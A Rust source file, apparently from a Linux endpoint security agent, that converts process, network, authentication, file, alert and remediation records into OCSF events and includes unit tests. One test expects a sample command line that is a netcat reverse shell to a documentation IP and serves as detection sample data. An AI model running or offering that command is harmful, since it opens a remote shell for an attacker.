//! Our records as OCSF 1.5.0 events: Process Activity (1007), File System
//! Activity (1001), Network Activity (4001), Authentication (3002),
//! Detection Finding (2004) and Remediation Activity (7001). Events that
//! name a process carry the `host` profile's `actor`; `process.uid` and
//! `parent_process.uid` are our process GUIDs.

use serde_json::{json, Map, Value};

use super::{basename, entity_str, entity_u64, epoch_ms, Output, PRODUCT, VERSION};
use crate::detect::{Alert, Severity};
use crate::enforce::actions::{Action, ActionState, Verb};
use crate::record::{AuthAttempt, Body, Conn, FileWrite, Flow, ProcessExec, Record};
use crate::response::record::ResponseRecord;

pub const SCHEMA_VERSION: &str = "1.5.0";
/// The ATT&CK release our technique table is (detect/attack.rs).
const ATTACK_VERSION: &str = "18.1";

struct Class {
    uid: u32,
    name: &'static str,
    category_uid: u32,
    category_name: &'static str,
}

const PROCESS_ACTIVITY: Class = Class {
    uid: 1007,
    name: "Process Activity",
    category_uid: 1,
    category_name: "System Activity",
};
const FILE_ACTIVITY: Class = Class {
    uid: 1001,
    name: "File System Activity",
    category_uid: 1,
    category_name: "System Activity",
};
const DETECTION_FINDING: Class = Class {
    uid: 2004,
    name: "Detection Finding",
    category_uid: 2,
    category_name: "Findings",
};
const AUTHENTICATION: Class = Class {
    uid: 3002,
    name: "Authentication",
    category_uid: 3,
    category_name: "Identity & Access Management",
};
const NETWORK_ACTIVITY: Class = Class {
    uid: 4001,
    name: "Network Activity",
    category_uid: 4,
    category_name: "Network Activity",
};
const REMEDIATION_ACTIVITY: Class = Class {
    uid: 7001,
    name: "Remediation Activity",
    category_uid: 7,
    category_name: "Remediation",
};

/// `out` as an OCSF event; None for kinds OCSF gets no event for.
pub fn translate(out: &Output<'_>) -> Option<Value> {
    match out {
        Output::Event(r) => event(r),
        Output::Alert(a) => Some(finding(a)),
        Output::Response(ResponseRecord::Action(a)) => Some(remediation(a)),
        Output::Response(_) | Output::Command(_) | Output::Summary(_) => None,
    }
}

/// The fields every event has; `activity` is (id, name).
fn base(
    class: &Class,
    activity: (u32, &str),
    time_ms: i64,
    host: &str,
    severity_id: u32,
    uid: Option<&str>,
) -> Map<String, Value> {
    let mut metadata = json!({
        "version": SCHEMA_VERSION,
        "product": {"name": PRODUCT, "vendor_name": PRODUCT, "version": VERSION},
        "profiles": ["host"],
    });
    if let Some(uid) = uid {
        metadata["uid"] = uid.into();
    }
    let v = json!({
        "class_uid": class.uid,
        "class_name": class.name,
        "category_uid": class.category_uid,
        "category_name": class.category_name,
        "activity_id": activity.0,
        "activity_name": activity.1,
        "type_uid": u64::from(class.uid) * 100 + u64::from(activity.0),
        "type_name": format!("{}: {}", class.name, activity.1),
        "time": time_ms,
        "severity_id": severity_id,
        "severity": severity_name(severity_id),
        "metadata": metadata,
        "device": device(host),
    });
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

fn severity_name(id: u32) -> &'static str {
    match id {
        1 => "Informational",
        2 => "Low",
        3 => "Medium",
        4 => "High",
        5 => "Critical",
        _ => "Unknown",
    }
}

fn device(host: &str) -> Value {
    json!({
        "hostname": host,
        "name": host,
        "type_id": 1,
        "type": "Server",
        "os": {"name": "Linux", "type_id": 200, "type": "Linux"},
    })
}

/// A process object from what a record knows of it.
fn process(
    pid: Option<u32>,
    guid: Option<&str>,
    comm: Option<&str>,
    exe: Option<&str>,
) -> Map<String, Value> {
    let mut p = Map::new();
    if let Some(pid) = pid {
        p.insert("pid".into(), pid.into());
    }
    if let Some(g) = guid {
        p.insert("uid".into(), g.into());
    }
    match (
        comm.filter(|c| !c.is_empty()),
        exe.filter(|e| !e.is_empty()),
    ) {
        (Some(c), _) => {
            p.insert("name".into(), c.into());
        }
        (None, Some(e)) => {
            p.insert("name".into(), basename(e).into());
        }
        (None, None) => {}
    }
    if let Some(e) = exe.filter(|e| !e.is_empty()) {
        p.insert("path".into(), e.into());
    }
    p
}

fn parent(pid: Option<u32>, guid: Option<&str>, exe: Option<&str>) -> Option<Value> {
    let p = process(pid.filter(|&p| p != 0), guid, None, exe);
    (!p.is_empty()).then_some(Value::Object(p))
}

fn user(uid: u32) -> Value {
    json!({"uid": uid.to_string()})
}

fn event(r: &Record) -> Option<Value> {
    let ms = r.wall_ns / 1_000_000;
    let guid = r.guid.as_deref();
    let parent_guid = r.parent_guid.as_deref();
    Some(Value::Object(match &r.body {
        Body::ProcessExec(e) => exec(r, e, ms),
        Body::ProcessFork(f) => {
            let mut m = base(&PROCESS_ACTIVITY, (99, "Fork"), ms, &r.host, 1, None);
            let mut p = process(Some(f.pid), guid, None, None);
            let par = parent(Some(f.ppid), parent_guid, None);
            if let Some(par) = &par {
                p.insert("parent_process".into(), par.clone());
            }
            m.insert("process".into(), Value::Object(p));
            m.insert("actor".into(), json!({"process": par.unwrap_or(json!({}))}));
            m
        }
        Body::ProcessExit(e) => {
            let mut m = base(&PROCESS_ACTIVITY, (2, "Terminate"), ms, &r.host, 1, None);
            let mut p = process(Some(e.pid), guid, Some(&e.comm), e.exe.as_deref());
            if let Some(par) = parent(None, parent_guid, None) {
                p.insert("parent_process".into(), par);
            }
            let p = Value::Object(p);
            m.insert("actor".into(), json!({"process": p.clone()}));
            m.insert("process".into(), p);
            if let Some(code) = e.exit_code {
                m.insert("exit_code".into(), code.into());
            }
            if let Some(sig) = e.signal {
                m.insert(
                    "status_detail".into(),
                    format!("killed by signal {sig}").into(),
                );
            }
            m
        }
        Body::NetConnect(c) => conn(r, c, (1, "Open"), Direction::Out, ms),
        Body::NetAccept(c) => conn(r, c, (1, "Open"), Direction::In, ms),
        Body::NetClose(c) => conn(r, c, (2, "Close"), Direction::Unknown, ms),
        Body::NetConnectFailed(c) => conn(r, c, (4, "Fail"), Direction::Out, ms),
        Body::NetRefused(c) => conn(r, c, (5, "Refuse"), Direction::In, ms),
        Body::AuthAttempt(a) => auth(r, a, ms),
        Body::FileWrite(w) => file_write(r, w, ms),
        Body::Flow(f) => flow(r, f, ms),
        Body::AgentStart(_) | Body::AgentStats(_) | Body::AgentStop(_) | Body::Inventory(_) => {
            return None
        }
    }))
}

fn exec(r: &Record, e: &ProcessExec, ms: i64) -> Map<String, Value> {
    let mut m = base(&PROCESS_ACTIVITY, (1, "Launch"), ms, &r.host, 1, None);
    let mut p = process(Some(e.pid), r.guid.as_deref(), Some(&e.comm), Some(&e.exe));
    p.insert("cmd_line".into(), e.argv.join(" ").into());
    if let Some(cwd) = &e.cwd {
        p.insert("working_directory".into(), cwd.as_str().into());
    }
    p.insert("user".into(), user(e.uid));
    let mut file =
        json!({"name": basename(&e.exe), "path": &e.exe, "type_id": 1, "type": "Regular File"});
    if let Some(id) = &e.exe_file {
        file["uid"] = format!("{}:{}", id.dev, id.ino).into();
    }
    p.insert("file".into(), file);
    let par = parent(
        Some(e.ppid),
        r.parent_guid.as_deref(),
        e.parent_exe.as_deref(),
    );
    if let Some(par) = &par {
        let mut par = par.clone();
        if let (Some(cl), Value::Object(o)) = (&e.parent_cmdline, &mut par) {
            o.insert("cmd_line".into(), cl.as_ref().into());
        }
        p.insert("parent_process".into(), par);
    }
    m.insert("process".into(), Value::Object(p));
    // The actor of a launch is the process that exec'd: the same one
    // before the exec, whose parent is ours.
    m.insert(
        "actor".into(),
        json!({"process": par.unwrap_or(json!({})), "user": user(e.uid)}),
    );
    m
}

#[derive(Clone, Copy, PartialEq)]
enum Direction {
    In,
    Out,
    Unknown,
}

/// Endpoints as OCSF wants them: `src` is the side that initiated.
fn endpoints(
    local: (std::net::IpAddr, u16),
    remote: (std::net::IpAddr, u16),
    dir: Direction,
) -> (Value, Value) {
    let ep = |(ip, port): (std::net::IpAddr, u16)| json!({"ip": ip.to_string(), "port": port});
    match dir {
        Direction::In => (ep(remote), ep(local)),
        Direction::Out | Direction::Unknown => (ep(local), ep(remote)),
    }
}

fn connection_info(proto: &str, community_id: &str, dir: Direction) -> Value {
    let (id, name) = match dir {
        Direction::In => (1, "Inbound"),
        Direction::Out => (2, "Outbound"),
        Direction::Unknown => (0, "Unknown"),
    };
    let num = match proto {
        "tcp" => 6,
        "udp" => 17,
        "icmp" => 1,
        _ => 0,
    };
    let mut v = json!({
        "protocol_name": proto,
        "direction_id": id,
        "direction": name,
        "community_uid": community_id,
    });
    if num != 0 {
        v["protocol_num"] = num.into();
    }
    v
}

fn conn(
    r: &Record,
    c: &Conn,
    activity: (u32, &str),
    dir: Direction,
    ms: i64,
) -> Map<String, Value> {
    let mut m = base(&NETWORK_ACTIVITY, activity, ms, &r.host, 1, None);
    let (src, dst) = endpoints((c.src_ip, c.src_port), (c.dst_ip, c.dst_port), dir);
    m.insert("src_endpoint".into(), src);
    m.insert("dst_endpoint".into(), dst);
    m.insert(
        "connection_info".into(),
        connection_info(c.proto, &c.community_id, dir),
    );
    let mut p = process(c.pid, r.guid.as_deref(), Some(&c.comm), c.exe.as_deref());
    if let Some(par) = parent(None, r.parent_guid.as_deref(), None) {
        p.insert("parent_process".into(), par);
    }
    let mut actor = json!({"process": p});
    if let Some(uid) = c.uid {
        actor["user"] = user(uid);
    }
    m.insert("actor".into(), actor);
    if let Some(state) = c.old_state {
        m.insert("status_detail".into(), format!("left {state}").into());
    }
    m
}

fn flow(r: &Record, f: &Flow, ms: i64) -> Map<String, Value> {
    let mut m = base(&NETWORK_ACTIVITY, (6, "Traffic"), ms, &r.host, 1, None);
    let dir = if f.direction == "outbound" {
        Direction::Out
    } else {
        Direction::In
    };
    let (src, dst) = endpoints((f.src_ip, f.src_port), (f.dst_ip, f.dst_port), dir);
    m.insert("src_endpoint".into(), src);
    m.insert("dst_endpoint".into(), dst);
    m.insert(
        "connection_info".into(),
        connection_info(f.proto, &f.community_id, dir),
    );
    m.insert(
        "traffic".into(),
        json!({
            "bytes_in": f.bytes_in,
            "bytes_out": f.bytes_out,
            "bytes": f.bytes_in + f.bytes_out,
            "packets_in": f.packets_in,
            "packets_out": f.packets_out,
            "packets": f.packets_in + f.packets_out,
        }),
    );
    let duration = f.duration_ms.max(0.0) as i64;
    m.insert("duration".into(), duration.into());
    m.insert("start_time".into(), (ms - duration).into());
    m.insert("end_time".into(), ms.into());
    m.insert(
        "status_detail".into(),
        format!("ended: {}", f.end_reason).into(),
    );
    if f.pid.is_some() || f.exe.is_some() {
        let mut p = process(
            f.pid,
            r.guid.as_deref(),
            f.comm.as_deref(),
            f.exe.as_deref(),
        );
        if let Some(par) = parent(None, r.parent_guid.as_deref(), None) {
            p.insert("parent_process".into(), par);
        }
        m.insert("actor".into(), json!({"process": p}));
    }
    m
}

fn auth(r: &Record, a: &AuthAttempt, ms: i64) -> Map<String, Value> {
    let mut m = base(&AUTHENTICATION, (1, "Logon"), ms, &r.host, 1, None);
    let ok = a.result == "success";
    m.insert("status_id".into(), if ok { 1 } else { 2 }.into());
    m.insert(
        "status".into(),
        if ok { "Success" } else { "Failure" }.into(),
    );
    m.insert("status_code".into(), a.code.to_string().into());
    let mut u = json!({});
    if let Some(name) = &a.user {
        u["name"] = name.as_str().into();
    }
    m.insert("user".into(), u);
    if let Some(service) = &a.service {
        m.insert("service".into(), json!({"name": service}));
    }
    // Only a trusted attempt's remote address is believed (record.rs).
    if let Some(peer) = a.peer {
        m.insert("src_endpoint".into(), json!({"ip": peer.to_string()}));
        m.insert("is_remote".into(), true.into());
    } else if let Some(rhost) = a.rhost.as_deref().filter(|h| !h.is_empty()) {
        m.insert("unmapped".into(), json!({"rhost_unverified": rhost}));
    }
    let mut p = process(
        Some(a.pid),
        r.guid.as_deref(),
        Some(&a.comm),
        a.exe.as_deref(),
    );
    if let Some(par) = parent(None, r.parent_guid.as_deref(), None) {
        p.insert("parent_process".into(), par);
    }
    let p = Value::Object(p);
    m.insert("logon_process".into(), p.clone());
    m.insert("actor".into(), json!({"process": p, "user": user(a.uid)}));
    m
}

fn file_write(r: &Record, w: &FileWrite, ms: i64) -> Map<String, Value> {
    let mut m = base(&FILE_ACTIVITY, (14, "Open"), ms, &r.host, 1, None);
    let mut file = json!({
        "name": basename(&w.path),
        "path": &w.path,
        "type_id": 1,
        "type": "Regular File",
    });
    if let Some(id) = &w.file {
        file["uid"] = format!("{}:{}", id.dev, id.ino).into();
    }
    m.insert("file".into(), file);
    let mut p = process(
        Some(w.pid),
        r.guid.as_deref(),
        Some(&w.comm),
        w.exe.as_deref(),
    );
    if let Some(par) = parent(None, r.parent_guid.as_deref(), None) {
        p.insert("parent_process".into(), par);
    }
    m.insert("actor".into(), json!({"process": p}));
    m
}

fn severity_id(s: Severity) -> u32 {
    match s {
        Severity::Info => 1,
        Severity::Low => 2,
        Severity::Medium => 3,
        Severity::High => 4,
        Severity::Critical => 5,
    }
}

/// How a detector decides, as OCSF's analytic types name it.
fn analytic(detector: &str) -> Value {
    let (id, name) = match detector {
        "anomaly" | "iforest" => (4, "Learning (ML/DL)"),
        "beacon" | "exfil" | "scan" => (3, "Statistical"),
        _ => (1, "Rule"),
    };
    json!({"name": detector, "type_id": id, "type": name})
}

fn attacks(a: &Alert) -> Value {
    a.techniques
        .iter()
        .map(|t| {
            let mut v = json!({"version": ATTACK_VERSION});
            let (parent_id, sub) = match t.id.split_once('.') {
                Some((p, _)) => (p, true),
                None => (t.id, false),
            };
            if sub {
                let name = crate::detect::attack::find(parent_id)
                    .map(|p| p.name)
                    .unwrap_or("");
                v["technique"] = json!({"uid": parent_id, "name": name});
                v["sub_technique"] = json!({"uid": t.id, "name": t.name});
            } else {
                v["technique"] = json!({"uid": t.id, "name": t.name});
            }
            if let Some((uid, name)) = super::tactic(t.tactic) {
                v["tactic"] = json!({"uid": uid, "name": name});
                v["tactics"] = json!([{"uid": uid, "name": name}]);
            }
            v
        })
        .collect()
}

fn finding(a: &Alert) -> Value {
    let sev = severity_id(a.severity);
    let activity = if a.update {
        (2, "Update")
    } else {
        (1, "Create")
    };
    let mut m = base(
        &DETECTION_FINDING,
        activity,
        epoch_ms(&a.ts),
        &a.host,
        sev,
        Some(&a.id),
    );
    let e = &a.entities;
    m.insert(
        "finding_info".into(),
        json!({
            "uid": &a.id,
            "title": &a.summary,
            "types": [a.detector],
            "analytic": analytic(a.detector),
            "attacks": attacks(a),
            "first_seen_time": epoch_ms(&a.first_seen),
            "last_seen_time": epoch_ms(&a.ts),
        }),
    );
    m.insert("message".into(), a.summary.as_str().into());
    m.insert("is_alert".into(), true.into());
    m.insert("status_id".into(), 1.into());
    m.insert("status".into(), "New".into());
    m.insert("count".into(), a.count.into());
    let score = (a.confidence * 100.0).round() as i64;
    m.insert("confidence_score".into(), score.into());
    let (cid, cname) = match score {
        ..=39 => (1, "Low"),
        40..=69 => (2, "Medium"),
        _ => (3, "High"),
    };
    m.insert("confidence_id".into(), cid.into());
    m.insert("confidence".into(), cname.into());

    let mut evidence = Map::new();
    let pid = entity_u64(e, "pid").and_then(|p| u32::try_from(p).ok());
    let mut p = process(pid, entity_str(e, "guid"), None, entity_str(e, "exe"));
    if let Some(argv) = e.get("argv").and_then(|v| v.as_array()) {
        let line: Vec<&str> = argv.iter().filter_map(|a| a.as_str()).collect();
        p.insert("cmd_line".into(), line.join(" ").into());
    }
    let ppid = entity_u64(e, "ppid").and_then(|p| u32::try_from(p).ok());
    if let Some(par) = parent(
        ppid,
        entity_str(e, "parent_guid"),
        entity_str(e, "parent_exe"),
    ) {
        p.insert("parent_process".into(), par);
    }
    if !p.is_empty() {
        let p = Value::Object(p);
        evidence.insert("process".into(), p.clone());
        m.insert("actor".into(), json!({"process": p}));
    }
    let mut observables = Vec::new();
    for (key, field) in [("src_ip", "src_endpoint"), ("dst_ip", "dst_endpoint")] {
        if let Some(ip) = entity_str(e, key).filter(|s| s.parse::<std::net::IpAddr>().is_ok()) {
            let mut ep = json!({"ip": ip});
            if key == "dst_ip" {
                if let Some(port) = entity_u64(e, "dst_port") {
                    ep["port"] = port.into();
                }
            }
            evidence.insert(field.into(), ep);
            observables.push(json!({"name": format!("{field}.ip"), "type_id": 2, "type": "IP Address", "value": ip}));
        }
    }
    evidence.insert(
        "data".into(),
        json!({"entities": e, "evidence": &a.evidence}),
    );
    m.insert("evidences".into(), json!([evidence]));
    if !observables.is_empty() {
        m.insert("observables".into(), observables.into());
    }
    Value::Object(m)
}

fn remediation(a: &Action) -> Value {
    let activity = match a.action {
        Verb::Block | Verb::Isolate | Verb::Freeze => (1, "Isolate"),
        Verb::Kill | Verb::Quarantine => (2, "Evict"),
        Verb::Unblock | Verb::Unisolate | Verb::Restore | Verb::Expire => (3, "Restore"),
        Verb::Step(step) => match step {
            "block_ip" | "isolate_host" | "freeze_process" => (1, "Isolate"),
            "kill_process" | "quarantine_file" => (2, "Evict"),
            _ => (99, "Other"),
        },
    };
    let mut m = base(
        &REMEDIATION_ACTIVITY,
        activity,
        epoch_ms(&a.ts),
        &a.host,
        1,
        Some(&a.id),
    );
    m.insert("command_uid".into(), a.id.as_str().into());
    let (status_id, status) = match a.state {
        ActionState::Applied | ActionState::Noop | ActionState::Expired => (1, "Success"),
        ActionState::Failed | ActionState::Refused => (2, "Failure"),
        ActionState::DryRun | ActionState::RateLimited => (99, "Other"),
    };
    m.insert("status_id".into(), status_id.into());
    m.insert("status".into(), status.into());
    m.insert("status_code".into(), a.state.as_str().into());
    let mut desc = format!("{} {}", a.action, a.target);
    if let Some(ttl) = a.ttl_s {
        desc.push_str(&format!(" for {ttl} s"));
    }
    if !a.detail.is_empty() {
        m.insert("status_detail".into(), a.detail.as_str().into());
    }
    m.insert("remediation".into(), json!({"desc": desc}));
    m.insert("message".into(), desc.into());
    if let Some(inc) = &a.incident {
        m["metadata"]["correlation_uid"] = inc.as_str().into();
    }
    if let Some(obs) = target_observable(a) {
        m.insert("observables".into(), json!([obs]));
    }
    Value::Object(m)
}

/// The action's target as an observable: an address, a network, a
/// process id or a file.
fn target_observable(a: &Action) -> Option<Value> {
    let t = a.target.as_str();
    let (id, name) = if t.parse::<std::net::IpAddr>().is_ok() {
        (2, "IP Address")
    } else if t.contains('/') && !t.starts_with('/') {
        (12, "Subnet")
    } else if t.parse::<u32>().is_ok() {
        (15, "Process ID")
    } else if t.starts_with('/') {
        (7, "File Name")
    } else if t == "host" {
        (1, "Hostname")
    } else {
        return None;
    };
    let value = if id == 1 { a.host.as_str() } else { t };
    Some(json!({"name": "target", "type_id": id, "type": name, "value": value}))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sink::format::samples;

    fn by_kind(kind: &str) -> Value {
        samples::translated(kind, translate)
    }

    #[test]
    fn exec_names_the_process_and_its_parent_by_guid() {
        let v = by_kind("process_exec");
        assert_eq!(v["class_uid"], 1007);
        assert_eq!(v["type_uid"], 100701);
        assert_eq!(v["process"]["uid"], &*samples::guid());
        assert_eq!(
            v["process"]["parent_process"]["uid"],
            &*samples::parent_guid()
        );
        assert_eq!(v["actor"]["process"]["uid"], &*samples::parent_guid());
        assert_eq!(v["process"]["cmd_line"], "nc -e /bin/sh 203.0.113.7 4444");
        assert_eq!(v["time"], 1_796_119_200_101_i64);
        assert_eq!(v["metadata"]["version"], "1.5.0");
    }

    #[test]
    fn inbound_connections_start_at_the_peer() {
        let v = by_kind("net_accept");
        assert_eq!(v["src_endpoint"]["ip"], "198.51.100.23");
        assert_eq!(v["dst_endpoint"]["port"], 22);
        assert_eq!(v["connection_info"]["direction_id"], 1);
        let v = by_kind("net_connect");
        assert_eq!(v["src_endpoint"]["ip"], "10.0.0.5");
        assert_eq!(
            v["connection_info"]["community_uid"]
                .as_str()
                .map(|s| &s[..2]),
            Some("1:")
        );
    }

    #[test]
    fn alerts_carry_attack_and_severity() {
        let v = by_kind("alert");
        assert_eq!(v["class_uid"], 2004);
        assert_eq!(v["type_uid"], 200401);
        assert_eq!(v["severity_id"], 4);
        let a = &v["finding_info"]["attacks"][0];
        assert_eq!(a["technique"]["uid"], "T1059");
        assert_eq!(a["technique"]["name"], "Command and Scripting Interpreter");
        assert_eq!(a["sub_technique"]["uid"], "T1059.004");
        assert_eq!(a["tactic"]["uid"], "TA0002");
        assert_eq!(v["evidences"][0]["process"]["uid"], &*samples::guid());
    }

    #[test]
    fn actions_are_remediation_activity() {
        let v = by_kind("action");
        assert_eq!(v["class_uid"], 7001);
        assert_eq!(v["activity_id"], 2);
        assert_eq!(v["type_uid"], 700102);
        assert_eq!(v["command_uid"], "0193f1c2-7a7f-7000-8000-00000000a001");
        assert_eq!(v["observables"][0]["type_id"], 15);
    }

    #[test]
    fn agent_records_and_decisions_have_no_ocsf_event() {
        let r = Record {
            body: Body::AgentStats(Default::default()),
            guid: None,
            parent_guid: None,
            ts: "2026-12-01T10:00:00Z".into(),
            host: std::sync::Arc::from("h"),
            wall_ns: 0,
        };
        assert!(translate(&Output::Event(&r)).is_none());
    }
}
